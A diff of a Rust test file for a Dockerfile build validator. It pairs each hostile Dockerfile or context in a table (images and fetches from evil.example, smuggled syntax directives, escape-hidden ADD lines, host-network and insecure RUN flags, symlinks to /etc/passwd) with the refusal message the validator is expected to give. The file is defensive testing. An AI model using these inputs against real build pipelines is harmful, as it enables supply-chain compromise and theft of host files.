@@ -1,5 +1,5 @@
-//! Dockerfiles and their contexts, by the builder, in front of an engine that notes what it is sent:
-//! nothing of what is refused gets there.
+//! Dockerfiles and their contexts, by the builder, in front of an engine that notes what it is
+//! sent: nothing of what is refused gets there.
 
 use std::{
     collections::BTreeSet,
@@ -19,72 +19,86 @@ use super::{Answer, Table};
 type Make = fn(&Path) -> String;
 
 /// What it is, what makes the context and gives the Dockerfile, the words.
-const ROWS: &[(&str, Make, &str)] = &[
-    ("nothing", |_| String::new(), ""),
-    ("arguments alone", |_| "ARG X=1\n".to_owned(), ""),
-    ("an image nobody listed", |_| "FROM evil/base:1\n".to_owned(), ""),
-    ("an image by an argument", |_| "ARG B=evil/base:1\nFROM ${B}\n".to_owned(), ""),
-    ("an image nobody knows before", |_| "FROM ${B:-base:1}\n".to_owned(), ""),
-    ("a front end", |_| "# syntax=evil/front\nFROM base:1\n".to_owned(), ""),
-    ("a front end below a note", |_| "# note\n# syntax = evil/front\nFROM base:1\n".to_owned(), ""),
-    ("another escape", |_| "# escape=x\nFROM base:1\n".to_owned(), ""),
-    (
-        "a line hidden by an escape",
-        |_| "FROM base:1\nRUN a \\\\\nADD http://evil/x /\n".to_owned(),
-        "",
-    ),
-    (
-        "a line hidden by a note",
-        |_| "FROM base:1\nRUN a \\\n # b\nADD http://evil/x /\n".to_owned(),
-        "",
-    ),
-    ("a document in a line", |_| "FROM base:1\nRUN <<EOF\nid\nEOF\n".to_owned(), ""),
-    ("something in other builds", |_| "FROM base:1\nONBUILD RUN id\n".to_owned(), ""),
-    ("an instruction nobody knows", |_| "FROM base:1\nINCLUDE /etc/passwd\n".to_owned(), ""),
-    ("an address", |_| "FROM base:1\nADD https://evil.example/x /x\n".to_owned(), ""),
-    ("a repository", |_| "FROM base:1\nADD git@evil.example:x.git /x\n".to_owned(), ""),
-    ("files of an image nobody listed", |_| "FROM base:1\nCOPY --from=evil:1 / /\n".to_owned(), ""),
-    ("the host's network", |_| "FROM base:1\nRUN --network=host id\n".to_owned(), ""),
-    ("rights of the host", |_| "FROM base:1\nRUN --security=insecure id\n".to_owned(), ""),
-    ("the keys of ssh", |_| "FROM base:1\nRUN --mount=type=ssh id\n".to_owned(), ""),
-    ("a shared cache", |_| "FROM base:1\nRUN --mount=type=cache,target=/c id\n".to_owned(), ""),
-    ("another platform", |_| "FROM --platform=linux/s390x base:1\n".to_owned(), ""),
-    ("two thousand steps", |_| format!("FROM base:1\n{}", "USER x\n".repeat(2001)), ""),
-    ("half a megabyte", |_| format!("FROM base:1\n#{}\n", "x".repeat(500_000)), ""),
-    (
-        "a link out of the context",
-        |context| {
-            symlink("/etc/passwd", context.join("stolen")).unwrap();
-            "FROM base:1\nCOPY stolen /\n".to_owned()
-        },
-        "",
-    ),
-    (
-        "a link above the context",
-        |context| {
-            symlink("../../secret", context.join("stolen")).unwrap();
-            "FROM base:1\nCOPY stolen /\n".to_owned()
-        },
-        "",
-    ),
-    (
-        "a socket in the context",
-        |context| {
-            drop(UnixListener::bind(context.join("socket")).unwrap());
-            "FROM base:1\nCOPY . /\n".to_owned()
-        },
-        "",
-    ),
-    (
-        "folders in folders",
-        |context| {
-            fs::create_dir_all(context.join("d/".repeat(70))).unwrap();
-            "FROM base:1\nCOPY . /\n".to_owned()
-        },
-        "",
-    ),
-    ("an image that is listed and not there", |_| "FROM base:1\nUSER x\n".to_owned(), ""),
-];
+const ROWS: &[(&str, Make, &str)] = rows! {
+    "nothing": |_| String::new() => "Dockerfile line 1: no FROM";
+    "arguments alone": |_| "ARG X=1\n".to_owned() => "Dockerfile line 1: no FROM";
+    "an image nobody listed": |_| "FROM evil/base:1\n".to_owned()
+        => "Dockerfile line 1: image evil/base:1 is not among the bases; the pipeline's operator \
+           lists those";
+    "an image by an argument": |_| "ARG B=evil/base:1\nFROM ${B}\n".to_owned()
+        => "Dockerfile line 2: image evil/base:1 is not among the bases; the pipeline's operator \
+           lists those";
+    "an image nobody knows before": |_| "FROM ${B:-base:1}\n".to_owned()
+        => "Dockerfile line 1: `${B:-base:1}` cannot be known before the build; write the name \
+           out, or use an ARG before the first FROM";
+    "a front end": |_| "# syntax=evil/front\nFROM base:1\n".to_owned()
+        => "Dockerfile line 1: the directive `syntax=evil/front` is not followed; remove it";
+    "a front end below a note": |_| "# note\n# syntax = evil/front\nFROM base:1\n".to_owned()
+        => "Dockerfile line 2: the directive `syntax = evil/front` is not followed; remove it";
+    "another escape": |_| "# escape=x\nFROM base:1\n".to_owned()
+        => "Dockerfile line 1: the directive `escape=x` is not followed; remove it";
+    "a line hidden by an escape": |_| "FROM base:1\nRUN a \\\\\nADD http://evil/x /\n".to_owned()
+        => "Dockerfile line 2: the line ends in two escape characters, which can be read in two \
+           ways; write it differently";
+    "a line hidden by a note": |_| "FROM base:1\nRUN a \\\n # b\nADD http://evil/x /\n".to_owned()
+        => "Dockerfile line 4: the line goes on, and begins with ADD, which can be read in two \
+           ways; write it differently";
+    "a document in a line": |_| "FROM base:1\nRUN <<EOF\nid\nEOF\n".to_owned()
+        => "Dockerfile line 2: `<<` is not read; put the text into a file and COPY it";
+    "something in other builds": |_| "FROM base:1\nONBUILD RUN id\n".to_owned()
+        => "Dockerfile line 2: `ONBUILD` is no instruction that is built";
+    "an instruction nobody knows": |_| "FROM base:1\nINCLUDE /etc/passwd\n".to_owned()
+        => "Dockerfile line 2: `INCLUDE` is no instruction that is built";
+    "an address": |_| "FROM base:1\nADD https://evil.example/x /x\n".to_owned()
+        => "Dockerfile line 2: ADD https://evil.example/x is fetched from the network; commit \
+           the file and COPY it, or ask the operator for network";
+    "a repository": |_| "FROM base:1\nADD git@evil.example:x.git /x\n".to_owned()
+        => "Dockerfile line 2: ADD git@evil.example:x.git is fetched from the network; commit \
+           the file and COPY it, or ask the operator for network";
+    "files of an image nobody listed": |_| "FROM base:1\nCOPY --from=evil:1 / /\n".to_owned()
+        => "Dockerfile line 2: image evil:1 is not among the bases; the pipeline's operator \
+           lists those";
+    "the host's network": |_| "FROM base:1\nRUN --network=host id\n".to_owned()
+        => "Dockerfile line 2: `--network=host` asks for more than a build has";
+    "rights of the host": |_| "FROM base:1\nRUN --security=insecure id\n".to_owned()
+        => "Dockerfile line 2: `--security=insecure` asks for more than a build has";
+    "the keys of ssh": |_| "FROM base:1\nRUN --mount=type=ssh id\n".to_owned()
+        => "Dockerfile line 2: RUN --mount=type=ssh; only bind, tmpfs, secret, and cache where \
+           the cache is on, are given";
+    "a shared cache": |_| "FROM base:1\nRUN --mount=type=cache,target=/c id\n".to_owned()
+        => "Dockerfile line 2: RUN --mount=type=cache,target=/c; only bind, tmpfs, secret, and \
+           cache where the cache is on, are given";
+    "another platform": |_| "FROM --platform=linux/s390x base:1\n".to_owned()
+        => "Dockerfile line 1: --platform=linux/s390x is not the platform that is built";
+    "two thousand steps": |_| format!("FROM base:1\n{}", "USER x\n".repeat(2001))
+        => "Dockerfile line 2001: more than 2000 instructions";
+    "half a megabyte": |_| format!("FROM base:1\n#{}\n", "x".repeat(500_000))
+        => "Dockerfile: more than 262144 bytes";
+    "a link out of the context": |context| {
+        symlink("/etc/passwd", context.join("stolen")).unwrap();
+        "FROM base:1\nCOPY stolen /\n".to_owned()
+    } => "stolen is a link to `/etc/passwd`, outside of the context; remove it or list it in \
+           .dockerignore";
+    "a link above the context": |context| {
+        symlink("../../secret", context.join("stolen")).unwrap();
+        "FROM base:1\nCOPY stolen /\n".to_owned()
+    } => "stolen is a link to `../../secret`, outside of the context; remove it or list it in \
+           .dockerignore";
+    "a socket in the context": |context| {
+        drop(UnixListener::bind(context.join("socket")).unwrap());
+        "FROM base:1\nCOPY . /\n".to_owned()
+    } => "socket is no file, folder or link; remove it or list it in .dockerignore";
+    "folders in folders": |context| {
+        fs::create_dir_all(context.join("d/".repeat(70))).unwrap();
+        "FROM base:1\nCOPY . /\n".to_owned()
+    } => "d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d: \
+           more than 64 folders deep";
+    "an image that is listed and not there": |_| "FROM base:1\nUSER x\n".to_owned()
+        => "image base:1 is not on unix://DIR/engine.sock; pull or load it there, a build does not";
+};
+
+/// What the engine says of itself.
+const VERSION: &str = "{\"Version\":\"27\",\"ApiVersion\":\"1.47\",\"Arch\":\"amd64\"}";
 
 /// An engine that has nothing, on a socket; it notes what it is asked.
 fn engine(socket: &Path) -> Arc<Mutex<Vec<String>>> {
@@ -107,10 +121,7 @@ fn engine(socket: &Path) -> Arc<Mutex<Vec<String>>> {
                     let words: Vec<&str> = first.split(' ').collect();
                     notes.lock().unwrap().push(format!("{} {}", words[0], words[1]));
                     let (status, body) = match words[1].contains("/version") {
-                        true => (
-                            "200 OK",
-                            "{\"Version\":\"27\",\"ApiVersion\":\"1.47\",\"Arch\":\"amd64\"}",
-                        ),
+                        true => ("200 OK", VERSION),
                         false => ("404 Not Found", "{\"message\":\"no such image\"}"),
                     };
                     let length = body.len();
